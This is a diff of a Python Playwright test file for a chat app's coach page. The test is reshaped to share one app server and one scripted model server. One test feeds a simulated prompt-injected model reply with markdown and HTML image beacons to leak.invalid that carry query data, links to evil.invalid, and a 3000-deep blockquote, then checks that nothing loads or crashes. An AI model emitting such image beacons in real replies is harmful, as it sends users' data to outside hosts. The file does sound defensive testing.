@@ -1,6 +1,13 @@
-"""Coach chat in a real browser: start a chat, send two messages, see both streamed replies."""
+"""Coach chat in a real browser: start a chat, send two messages, see both streamed replies; a
+prompt-injected reply loads nothing and shows no link.
+
+One server and one model server for the module (a server start costs ~3.5 CPU s): each test has an
+evaluation of its own in the shared database, and sets the model's replies before it chats.
+"""
 
 from __future__ import annotations
+
+from collections.abc import Iterator
 
 import pytest
 from playwright.sync_api import expect
@@ -8,8 +15,9 @@ from playwright.sync_api import expect
 from lib.db import init_db, session_scope
 from lib.models import EvaluationSnapshot
 from lib.safe_markdown import MAX_NESTING
+from lib.scripted_llm import LLMServer, start_llm_server
 from tests import llm_server as fake
-from tests.browser.conftest import settle
+from tests.browser.conftest import StreamlitServer, settle
 
 pytestmark = pytest.mark.browser
 
@@ -41,6 +49,37 @@ _WATCH_MESSAGES = """(texts) => {
 ONCE = {"most": 1, "same": True}
 
 
+@pytest.fixture(scope="module")
+def coach(
+    module_app, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[tuple[StreamlitServer, LLMServer]]:
+    """The app over both tests' evaluations (snap_browser, snap_inject), and the model server it asks."""
+    url = f"sqlite:///{tmp_path_factory.mktemp('coach') / 'coach.db'}"
+    engine = init_db(url)
+    with session_scope(engine) as s:
+        for snapshot_id, question, answer in (
+            ("snap_browser", "What is 2+2?", "It is 5."),
+            ("snap_inject", "Q?", "A."),
+        ):
+            s.add(
+                EvaluationSnapshot(
+                    id=snapshot_id,
+                    question=question,
+                    model_answer=answer,
+                    product="acme",
+                    language="en",
+                    user_scores_json={"truthfulness": {"score": 1}},
+                    judge_scores_json={"truthfulness": {"score": 3}},
+                )
+            )
+    engine.dispose()
+    llm = start_llm_server()
+    try:
+        yield module_app(url, OPENAI_BASE_URL=llm.base_url, OPENAI_API_KEY="test"), llm
+    finally:
+        llm.stop()
+
+
 def _reply(body: dict) -> fake.StreamReply:
     last = body["messages"][-1]["content"]
     if last.startswith("Open the conversation"):
@@ -48,24 +87,9 @@ def _reply(body: dict) -> fake.StreamReply:
     return fake.stream(["You asked: ", last, ". ", "Evidence says otherwise."], delay=0.05)
 
 
-def test_two_messages_get_two_streamed_replies(streamlit_app, page, tmp_path, llm_server) -> None:
-    url = f"sqlite:///{tmp_path / 'coach.db'}"
-    engine = init_db(url)
-    with session_scope(engine) as s:
-        s.add(
-            EvaluationSnapshot(
-                id="snap_browser",
-                question="What is 2+2?",
-                model_answer="It is 5.",
-                product="acme",
-                language="en",
-                user_scores_json={"truthfulness": {"score": 1}},
-                judge_scores_json={"truthfulness": {"score": 3}},
-            )
-        )
-    engine.dispose()
-    llm_server.responder = _reply
-    server = streamlit_app(url, OPENAI_BASE_URL=llm_server.base_url, OPENAI_API_KEY="test")
+def test_two_messages_get_two_streamed_replies(coach, page) -> None:
+    server, llm = coach
+    llm.responder = _reply
 
     page.goto(f"{server.base_url}/coach?snapshot=snap_browser")
     try:
@@ -109,31 +133,16 @@ def _chat(page) -> None:
 LEAK = "http://leak.invalid/pixel.png"
 
 
-def test_injected_image_never_loads_and_deep_quote_renders(streamlit_app, page, tmp_path, llm_server) -> None:
+def test_injected_image_never_loads_and_deep_quote_renders(coach, page) -> None:
     """Issue #17: a prompt-injected reply may not make the reviewer's browser fetch anything, nor crash it;
     issue 24: nor show a link (links read as plain text, as in every other model text)."""
-    url = f"sqlite:///{tmp_path / 'coach.db'}"
-    engine = init_db(url)
-    with session_scope(engine) as s:
-        s.add(
-            EvaluationSnapshot(
-                id="snap_inject",
-                question="Q?",
-                model_answer="A.",
-                product="acme",
-                language="en",
-                user_scores_json={"truthfulness": {"score": 1}},
-                judge_scores_json={"truthfulness": {"score": 3}},
-            )
-        )
-    engine.dispose()
+    server, llm = coach
     reply = (
         f"Summary ![secret]({LEAK}?q=answer) and ![ref][r] **bold**\n\n[r]: {LEAK}?ref\n\n"
         f"<img src='{LEAK}?html'>\n\n[click here](https://evil.invalid/a), https://evil.invalid/b, "
         "www.evil.invalid and me@evil.invalid\n\n" + "> " * 3000 + "deep quote end"
     )
-    llm_server.responder = lambda body: fake.stream([reply], delay=0.0)
-    server = streamlit_app(url, OPENAI_BASE_URL=llm_server.base_url, OPENAI_API_KEY="test")
+    llm.responder = lambda body: fake.stream([reply], delay=0.0)
     requested: list[str] = []
     page.on("request", lambda request: requested.append(request.url))
     crashed: list[str] = []
